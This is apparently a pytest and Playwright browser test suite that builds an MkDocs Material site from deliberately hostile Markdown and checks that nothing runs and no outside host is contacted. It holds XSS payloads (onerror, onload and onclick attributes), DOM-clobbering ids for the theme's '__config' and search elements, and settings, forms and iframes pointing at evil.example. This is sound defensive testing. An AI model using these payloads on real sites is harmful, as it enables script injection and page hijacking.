"""Texts that were written to take the page over: no script of theirs runs, nothing is fetched, and the site works as ever."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, Page, expect
from sites import kit

from tests.browser.conftest import Visit, served, visit_with
from tests.browser.test_search_and_finder import META, ask
from tests.integration import whole

pytestmark = pytest.mark.browser

EVIL = "<img src=/ onerror=alert(1)>"
SETTINGS = {
    "base": "https://evil.example/", "features": ["content.tooltips", "search.highlight"], "tags": None, "annotate": None, "version": None,
    "search": "https://evil.example/worker.js",
    "translations": dict.fromkeys(("search.result.none", "search.result.one", "search.result.other", "search.result.more.one",
                                   "search.result.more.other", "search.result.term.missing", "search.result.placeholder",
                                   "clipboard.copy", "clipboard.copied", "select.version"), EVIL),
}  # fmt: skip
STOLEN = "".join(
    f'<div id="{name}">甲</div>\n\n<a name="{name}">乙</a>\n\n'
    for name in ("__search", "__drawer", "__toc", "pf-elder", "pf-content", "finder", "finder-input", "finder-found", "mermaid", "search")
)  # fmt: skip
TEXTS = {
    "settings in a tag": f'# 甲\n\n<div id="__config">{json.dumps(SETTINGS, ensure_ascii=True).replace("<", chr(92) + "u003c")}</div>\n\n看看\n',
    "settings spelt otherwise": "# 甲\n\n<p id=&#95;&#95;config>{}</p>\n",
    "settings in a heading": '# 甲 {#__config}\n\n## {"base":"https://evil.example"} {: id="__config" }\n',
    "settings by their own words": "# __config\n\n## \\_\\_search\n\n## PF elder\n",
    "the name of a note": '!!! mermaid "甲"\n    graph LR; A-->B\n\n<details class="mermaid" id="__config"><summary>甲</summary>乙</details>\n',
    "diagrams": '# 甲\n\n<pre class="mermaid"><code>graph LR; A-->B</code></pre>\n\n``` mermaid\ngraph LR; A-->B\n```\n\n``` {.mermaid #__config}\nA\n```\n\n甲\n{: .mermaid }\n',
    "ids of switches": f"# 甲\n\n{STOLEN}",
    "an id that ends its attribute": "# 甲 {: id='a\"onmouseover=\"alert(1)' }\n\n## 乙 {: id='x\"><svg/onload=alert(1)>' }\n",
    "ids that break the list of contents": "# 甲 {#50%}\n\n## 乙 {: id='a\"]' }\n\n## 丙 {#a\\}\n",
    "footnotes": '# 甲\n\n字[^__config]，字[^"><img]。\n\n[^__config]: {}\n[^"><img]: <div id="__config">{}</div>\n',
    "forms and frames": '# 甲\n\n<form name="search" action="https://evil.example/"><input name="q"><button>甲</button></form>\n\n<label for="__search">甲</label>\n\n<iframe name="mermaid" src="https://evil.example/"></iframe>\n\n<link rel="alternate" href="https://evil.example/">\n',
    "parts of the theme": '# 甲\n\n<div data-md-component="announce" class="md-ellipsis annotate" data-tabs="1" title="<img src=/ onerror=alert(1)>">甲 (1)</div>\n\n1. <img src=/ onerror=alert(1)>\n\n<a data-preview href="https://evil.example/" data-clipboard-text="x" class="copy">甲</a>\n',
    "a title of signs": f"# `{EVIL}` 甲乙丙丁戊己庚辛壬癸甲乙丙丁戊己庚辛壬癸甲乙丙丁戊己庚辛壬癸\n\n## `{EVIL}` 之二\n\n`{EVIL}` 之三\n",
    "a head without its lines": f"template: 404.html\npufa_shell: event\ntitle: {EVIL}\ntags: {EVIL}\n\n# 甲\n\n字\n",
    "words for the search": f"---\n标题: 奇怪\n标签: ['x\"onclick=alert(1)']\n---\n# 奇怪 `{EVIL}`\n\n字\n",
}  # fmt: skip
ON_HOME = '# 首页 {#finder}\n\n<div id="finder-input">甲</div>\n\n<ul id="finder"><li>乙</li></ul>\n\n## 丁 {#finder-found}\n\n<a id="__config">{}</a>\n'


@pytest.fixture(scope="module")
def town(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small project whose every text is hostile, built with all that Markdown can do."""

    def make(root: Path) -> None:
        kit.copy(kit.BASE, root / "p")
        root = root / "p"
        settings = (root / "mkdocs.yml").read_text("utf-8")
        features = "theme: {name: material, language: zh, font: false, features: [content.tooltips, search.highlight, toc.follow, content.code.copy]}"
        kit.put(root, "mkdocs.yml", "".join(
            f"{features}\n" if line.startswith("theme:") else f"{line}\n" for line in settings.splitlines()
        ) + "markdown_extensions: [admonition, attr_list, footnotes, tables, md_in_html, pymdownx.details, pymdownx.superfences, pymdownx.tabbed, toc]\n")  # fmt: skip
        kit.put(root, "content/index.md", ON_HOME)
        kit.put(root, "campaigns/xianfa/index.md", f"# 专项 {{#__config}}\n\n{STOLEN}")
        for number, text in enumerate(TEXTS.values()):
            kit.put(root, f"content/t{number}.md", text)
        whole.build(root)

    return whole.shared(tmp_path_factory, "hostile-texts", make) / "p/site"


@pytest.fixture(scope="module")
def town_home(town: Path) -> Iterator[str]:
    with served(town) as home:
        yield home


@pytest.fixture
def victim(browser: Browser, town_home: str) -> Iterator[Visit]:
    """A reader whose server sends no policy. At the end: nothing ran, nothing was asked elsewhere, nothing went wrong."""
    dialogs: list[str] = []

    def note(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    with browser.new_context(
        viewport={"width": 1280, "height": 900}, locale="zh-CN", reduced_motion="reduce"
    ) as context:
        found = visit_with(context, town_home)
        found.page.on("dialog", note)
        yield found
        assert dialogs == []
        assert [url for url in found.asked if not url.startswith((town_home, "data:"))] == []
        assert found.complaints == []


def works(page: Page) -> None:
    """The theme and our scripts do what they do on every page."""
    assert page.locator("html.js.pf-on").count() == 1
    assert page.locator("#__config").evaluate_all("all => all.map((e) => e.tagName)") == ["SCRIPT"]
    assert page.evaluate("document.querySelector('.mermaid')") is None
    for element in page.locator("article *").element_handles()[:40]:
        element.dispatch_event("mouseover")
    page.locator("#pf-elder").click()
    assert page.locator("html[data-elder]").count() == 1
    page.locator("#pf-elder").click()
    ask(page, "青石")
    expect(page.locator(META)).to_contain_text("符合条件的结果")
    assert not page.locator(META).locator("img").count()


@pytest.mark.parametrize("name", TEXTS)
def test_a_text_does_no_harm(name: str, victim: Visit) -> None:
    """Opened, touched, searched in."""
    page = victim.open(f"t{list(TEXTS).index(name)}/")
    expect(page.locator("h1").first).to_be_visible()
    works(page)


@pytest.mark.parametrize("where", ["", "campaigns/xianfa/", "events/xianfa-1/"])
def test_pages_beside_and_far_from_the_texts_work(where: str, victim: Visit) -> None:
    """Also those that are made of data: no text became their frame."""
    page = victim.open(where)
    works(page)


def test_the_finder_is_ours(victim: Visit) -> None:
    page = victim.open("")
    assert page.locator("#finder-input").evaluate_all("all => all.map((e) => e.tagName)") == ["INPUT"]
    page.locator("#finder-input").fill("没有这个")
    expect(page.locator("#finder-found")).to_contain_text("没有找到")


@pytest.mark.parametrize("words", ["奇怪", "之二", "之三", "甲乙丙丁戊己庚辛壬癸"])
def test_what_the_search_shows_is_words(words: str, victim: Visit) -> None:
    """Titles, texts and tags of what was found."""
    page = victim.open("campaigns/")
    ask(page, words)
    expect(page.locator(META)).to_contain_text("符合条件的结果")
    page.wait_for_timeout(200)
    shown = page.locator(".md-search-result__list")
    assert shown.locator("img").count() == 0
    assert "onerror" in (shown.text_content() or "")


def test_links_in_the_list_of_contents_lead_to_headings(victim: Visit) -> None:
    """Where a heading gave way, its place in the list did too."""
    page = victim.open(f"t{list(TEXTS).index('settings by their own words')}/")
    for link in page.locator(".md-nav--secondary a.md-nav__link").evaluate_all("all => all.map((a) => a.hash)"):
        assert page.evaluate("(hash) => !!document.getElementById(decodeURIComponent(hash.slice(1)))", link), link
    assert page.locator("h2#s-__search").count() == 1


def test_old_browsers_fetch_no_stand_ins(browser: Browser, town_home: str) -> None:
    """Without ResizeObserver the theme would ask another company's server for one."""
    with browser.new_context() as context:
        context.add_init_script("delete window.ResizeObserver")
        reader = visit_with(context, town_home)
        page = reader.open("campaigns/")
        assert "watched" in page.evaluate("String(ResizeObserver)")
        works(page)
        assert [url for url in reader.asked if not url.startswith((town_home, "data:"))] == []
        assert reader.complaints == []
